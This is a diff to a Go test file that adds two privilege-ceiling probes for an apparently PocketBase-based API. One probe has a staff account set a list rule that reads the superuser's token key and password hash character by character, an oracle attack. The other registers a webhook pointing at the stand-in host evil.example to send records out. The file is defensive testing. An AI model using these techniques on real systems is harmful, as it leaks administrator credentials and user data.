@@ -429,3 +429,50 @@ func trySuperuserRecords(t *testing.T, c *ceiling) string {
 	}
 	return strings.Join(got, "; ")
 }
+
+// tryRuleOracle sets rules that test the superuser's token key and
+// password hash, a character at a time, and lists as a guest: a rule that
+// could read them would be an oracle.
+func tryRuleOracle(t *testing.T, c *ceiling) string {
+	col, _ := c.app.Collections().Find("posts")
+	before := *col.ListRule
+	defer func() {
+		var in core.CollectionInput
+		mustJSON(t, `{"listRule":`+strconvQuote(before)+`}`, &in)
+		if _, err := c.app.Collections().Update(systemCtx(), "posts", &in); err != nil {
+			t.Fatal(err)
+		}
+	}()
+	su := c.superuser(t)
+	var got []string
+	for _, field := range []string{"tokenKey", "password"} {
+		value := su.GetString(field)
+		if value == "" {
+			t.Fatalf("the superuser has no %s", field)
+		}
+		rule := "@collection._superusers." + field + " ?~ '" + value[:1] + "%'"
+		if rec := c.as("staff", "PATCH", "/api/collections/posts", `{"listRule":`+strconvQuote(rule)+`}`); !ok(rec) {
+			continue
+		}
+		list := c.as("", "GET", "/api/collections/posts/records", "")
+		var l struct{ TotalItems int }
+		mustJSON(t, list.Body.String(), &l)
+		if ok(list) && l.TotalItems > 0 {
+			got = append(got, "a rule reads the superuser's "+field)
+		}
+	}
+	return strings.Join(got, "; ")
+}
+
+// tryWebhooks creates a webhook (which would send records anywhere) and
+// reads the webhooks.
+func tryWebhooks(t *testing.T, c *ceiling) string {
+	var got []string
+	if rec := c.as("staff", "POST", "/api/hg/webhooks", `{"collection":"posts","events":["create"],"url":"https://evil.example/hook","secret":"s3cret-hook"}`); ok(rec) {
+		got = append(got, "created a webhook")
+	}
+	if rec := c.as("staff", "GET", "/api/hg/webhooks", ""); ok(rec) {
+		got = append(got, "listed the webhooks")
+	}
+	return strings.Join(got, "; ")
+}
